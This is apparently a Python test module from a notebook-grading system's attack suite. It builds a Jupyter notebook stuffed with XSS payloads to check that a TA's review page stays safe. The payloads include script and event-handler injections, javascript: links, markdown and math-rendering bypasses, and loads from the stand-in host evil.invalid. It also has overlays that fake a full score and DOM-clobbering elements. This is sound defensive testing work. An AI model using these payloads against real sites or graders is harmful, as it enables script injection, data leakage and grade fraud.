"""Attacks on a TA's browser: what a student can write that a careless page would carry out.

Each calls `pwned` with its name where script of its runs, asks for an address with `chosen-by-a-student` in it
where it loads something, or lays itself over the page.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

from tests.attacks.attack import UNIT, Attack
from tests.attacks.controls import RIGHT

CHOSEN = "chosen-by-a-student"
"""Part of every address that a payload asks for."""
EVIL = f"http://evil.invalid/{CHOSEN}"


@dataclass(frozen=True)
class Payload:
    """Something hostile to show.

    Parameters
    ----------
    name
        Says what it is.
    text
        Markdown, HTML included.
    """

    name: str
    text: str


def _run(name: str) -> str:
    return f"pwned('{name}')"


def _script(name: str, template: str) -> Payload:
    return Payload(name, template.replace("RUN", _run(name)).replace("EVIL", EVIL).replace("CHOSEN", CHOSEN))


RUNNING = tuple(
    _script(name, template)
    for name, template in (
        ("script", "<script>RUN</script>"),
        ("script-src", "<script src='EVIL.js'></script>"),
        ("script-module", "<script type=module>RUN</script>"),
        ("script-broken", "<scr<script>ipt>RUN</scr</script>ipt>"),
        ("script-null", "<scr\0ipt>RUN</scr\0ipt>"),
        ("script-unclosed", "<img src=x onerror=RUN//"),
        ("image", '<img src=x onerror="RUN">'),
        ("image-upper", '<IMG SRC=x OnErRoR="RUN">'),
        ("image-slashes", '<img/src=x/onerror="RUN"/>'),
        ("image-backticks", "<img src=`x` onerror=`RUN`>"),
        ("image-srcset", "<img srcset='EVIL 1x' src=x onload=\"RUN\">"),
        ("svg", '<svg onload="RUN"></svg>'),
        ("svg-script", "<svg><script>RUN</script></svg>"),
        ("svg-animate", '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>'),
        ("svg-foreign", '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>'),
        (
            "svg-use",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x\"/></svg>",
        ),
        ("svg-link", '<svg><a xlink:href="javascript:RUN"><text y=20>click</text></a></svg>'),
        ("iframe", '<iframe src="javascript:parent.RUN"></iframe>'),
        ("iframe-srcdoc", '<iframe srcdoc="<script>parent.RUN</script>"></iframe>'),
        ("iframe-onload", '<iframe onload="RUN"></iframe>'),
        ("object", '<object data="javascript:RUN"></object>'),
        ("object-html", '<object data="data:text/html,<script>parent.RUN</script>"></object>'),
        ("embed", '<embed src="javascript:RUN">'),
        ("video", '<video src=x onerror="RUN"></video><audio src=x onerror="RUN"></audio>'),
        ("details", '<details open ontoggle="RUN"><summary>x</summary>y</details>'),
        ("input-focus", '<input autofocus onfocus="RUN">'),
        ("marquee", '<marquee onstart="RUN">x</marquee>'),
        ("body", '<body onload="RUN" onpageshow="RUN">'),
        ("animation", '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="RUN">x</p>'),
        ("mouse", '<p onmouseover="RUN" onclick="RUN">x</p>'),
        ("form", '<form action="javascript:RUN"><button>x</button></form>'),
        ("form-action", '<button formaction="javascript:RUN" form=f>x</button><form id=f></form>'),
        ("link", '<a href="javascript:RUN">click</a>'),
        ("link-tab", '<a href="java&#9;script:RUN">click</a>'),
        ("link-newline", '<a href="java\nscript:RUN">click</a>'),
        ("link-entity", '<a href="&#106;avascript&colon;RUN">click</a>'),
        ("link-control", '<a href="\x01javascript:RUN">click</a>'),
        ("link-data", '<a href="data:text/html,<script>opener.RUN</script>" target=_blank>click</a>'),
        ("link-vbscript", '<a href="vbscript:RUN">click</a>'),
        ("markdown-link", "[click](javascript:RUN)"),
        ("markdown-link-entity", "[click](javascript&#58;RUN)"),
        ("markdown-link-upper", "[click](JaVaScRiPt:RUN)"),
        ("markdown-autolink", "<javascript:RUN>"),
        ("markdown-reference", "[click][r1]\n\n[r1]: javascript:RUN"),
        ("markdown-image", "![x](javascript:RUN)"),
        ("markdown-title", '[x](http://a.invalid "\\" onmouseover=\\"RUN")'),
        ("markdown-alt", '![x" onerror="RUN](missing.png)'),
        ("markdown-fence", '```"><img src=x onerror="RUN">\ncode\n```'),
        ("markdown-code", '`` <img src=x onerror="RUN"> ``'),
        ("markdown-table", '| a |\n|---|\n| <img src=x onerror="RUN"> |'),
        ("markdown-heading", '# x" onmouseover="RUN" y="'),
        ("markdown-attachment", '![x](attachment:a"onerror="RUN)'),
        ("math", '$<img src=x onerror="RUN">$'),
        ("math-block", '$$</math><img src=x onerror="RUN">$$'),
        ("math-text", '$\\text{<img src=x onerror="RUN">}$'),
        ("math-href", "$\\href{javascript:RUN}{click}$ \\$\\href{javascript:RUN}{click}\\$"),
        ("math-unicode", "$\\unicode{60}img src=x onerror=RUN\\unicode{62}$"),
        ("math-environment", '\\begin{x"><img src=x onerror=RUN>}a\\end{x"><img src=x onerror=RUN>}'),
        ("mathml-href", '<math href="javascript:RUN"><mi>click</mi></math>'),
        (
            "mathml-action",
            '<math><maction actiontype="statusline#http://a" xlink:href="javascript:RUN">click</maction></math>',
        ),
        (
            "mathml-style",
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></table></mtext></math>',
        ),
        (
            "mathml-annotation",
            '<math><annotation-xml encoding="text/html"><img src=x onerror="RUN"></annotation-xml></math>',
        ),
        ("twice-noscript", '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>'),
        ("twice-style", '<svg></p><style><a id="</style><img src=x onerror=RUN>"></style></svg>'),
        ("twice-comment", '<!--><img src=x onerror="RUN">-->'),
        ("twice-bang", '<! foo="<img src=x onerror=RUN>"><!--[if gte IE 4]><script>RUN</script><![endif]-->'),
        ("twice-cdata", '<math><![CDATA[</math><img src=x onerror="RUN">]]></math>'),
        ("twice-template", '<template><img src=x onerror="RUN"></template>'),
        ("twice-textarea", '<textarea></textarea><img src=x onerror="RUN">'),
        ("twice-title", '<title><a title="</title><img src=x onerror=RUN>">'),
        ("twice-xmp", '<xmp><p title="</xmp><img src=x onerror=RUN>">'),
        ("twice-form", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>"),
        (
            "twice-select",
            '<select><template><style><!--</style><img title="--&gt;&lt;/style&gt;&lt;img src=x onerror=RUN&gt;"></template></select>',
        ),
        ("entities", '&lt;img src=x onerror="RUN"&gt; &amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;'),
        ("plaintext", "<plaintext><script>RUN</script>"),
        ("template-jinja", '{{ 7 * 7 }}{% raw %}<img src=x onerror="RUN">{% endraw %}'),
        ("template-underscore", "<%- RUN %><% RUN %>${RUN}"),
        ("meta-refresh", '<meta http-equiv=refresh content="0;url=javascript:RUN">'),
        ("base", '<base href="EVIL/">'),
        ("worker", '<link rel=modulepreload href="EVIL.js"><link rel=import href="EVIL.html">'),
    )
)

LOADING = tuple(
    _script(name, template)
    for name, template in (
        ("loads-image", '<img src="EVIL.png">'),
        ("loads-markdown-image", "![x](EVIL.png)"),
        ("loads-own-server", '<img src="/logout?CHOSEN"> ![x](/CHOSEN/api)'),
        ("loads-own-folder", "![x](../../../CHOSEN.png)"),
        ("loads-other-protocol", '<img src="//evil.invalid/CHOSEN.png">'),
        ("loads-style", "<link rel=stylesheet href=\"EVIL.css\"><style>@import 'EVIL.css';</style>"),
        (
            "loads-background",
            '<p style="background:url(EVIL.png)">x</p><table background="EVIL.png"><tr><td>x</table>',
        ),
        (
            "loads-media",
            '<video src="EVIL.mp4" poster="EVIL.png" autoplay></video><audio src="EVIL.mp3" autoplay></audio>',
        ),
        (
            "loads-frame",
            '<iframe src="EVIL.html"></iframe><embed src="EVIL.swf"><object data="EVIL.pdf"></object>',
        ),
        ("loads-input", '<input type=image src="EVIL.png">'),
        ("loads-svg", '<svg><image href="EVIL.png"/></svg>'),
        (
            "loads-prefetch",
            '<link rel=prefetch href="EVIL"><link rel=dns-prefetch href="//evil.invalid/CHOSEN">',
        ),
    )
)

COVERING = tuple(
    Payload(name, text)
    for name, text in (
        (
            "covers-by-style",
            '<div style="position:fixed;inset:0;background:white;z-index:9999">12 of 12 points</div>',
        ),
        ("covers-by-class", '<div class="navbar navbar-fixed-top">12 of 12 points</div>'),
        ("covers-by-modal", '<div class="modal in modal-backdrop" id="modal">12 of 12 points</div>'),
        (
            "covers-by-margin",
            '<div style="margin-top:-3000px;height:3000px;background:white">12 of 12 points</div>',
        ),
        ("covers-by-sheet", "<style>* { position: fixed !important; inset: 0 }</style>"),
        (
            "takes-an-id",
            '<p id="statusmessage">12 of 12 points</p><p id="notebook">x</p><p id="check_sigmoid">x</p>',
        ),
        ("takes-a-name", '<img name="getElementById"><form name="body"><input name="cookie"></form>'),
    )
)

PAYLOADS: tuple[Payload, ...] = (*RUNNING, *LOADING, *COVERING)
NESTED = "<div>" * 300
"""Tags without end come last: what follows them is inside."""


def hostile_notebook(data: bytes) -> bytes:
    """Return a notebook with every payload in every place: answers, cells, sources, outputs, errors."""
    notebook = json.loads(data)
    texts = {payload.name: payload.text for payload in PAYLOADS}
    together = "\n\n".join(f"{name}:\n\n{text}" for name, text in texts.items())
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "written_bound_proof":
            cell["source"] = together + "\n\n" + NESTED
    for name, text in texts.items():
        notebook["cells"].append(_cell("markdown", f"{name}:\n\n{text}"))
    plain = "\n".join(texts.values())
    notebook["cells"] += [
        _cell("raw", plain),
        _cell("code", f"payloads = {list(texts.values())!r}\nfor text in payloads:\n    print(text)"),
        _cell("code", SHOWING),
        _cell("code", "'\\n'.join(payloads)"),
        _cell("code", "class Shown:\n    def __repr__(self): return payloads[0]\nShown()"),
        _cell("code", "raise type(payloads[6], (Exception,), {})(''.join(payloads[:40]))"),
        _cell("code", "exec(compile('1/0', payloads[6], 'exec'))"),
        _cell("code", "\n".join(f"# {line}" for line in plain.splitlines())),
        _cell("markdown", NESTED),
    ]
    return json.dumps(notebook).encode()


SHOWING = """
from IPython.display import *
for text in payloads:
    display(HTML(text))
    display(Markdown(text))
    display(Javascript("pwned('javascript-output')"))
    display({
        "text/html": text, "text/markdown": text, "image/svg+xml": text, "text/latex": text,
        "application/javascript": "pwned('javascript-data')", "application/vnd.jupyter.widget-view+json": {"model_id": text},
        "image/png": "x' onerror='pwned(1)", "application/pdf": text, "text/plain": text,
    }, raw=True)
"""


def _cell(kind: str, source: str) -> dict[str, object]:
    cell: dict[str, object] = {"cell_type": kind, "metadata": {}, "source": source}
    return cell | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def wrong(name: str) -> str:
    """Return a function that raises an error whose name and words are hostile."""
    return f"def {name}(*args):\n    raise type('<img src=x onerror=pwned(1)>', (Exception,), {{}})('<script>pwned(1)</script>')"


SHOWN = Attack(
    "hostile-pages",
    "writes scripts, pictures, frames and covers into answers, cells, outputs, errors and names",
    "run, load or cover anything in the browser of a TA",
    cells=RIGHT | {name: wrong(name) for name in ("sigmoid_second", "z_with_slope")},
    notebook=UNIT,
    file=hostile_notebook,
    earns=8.0,
)
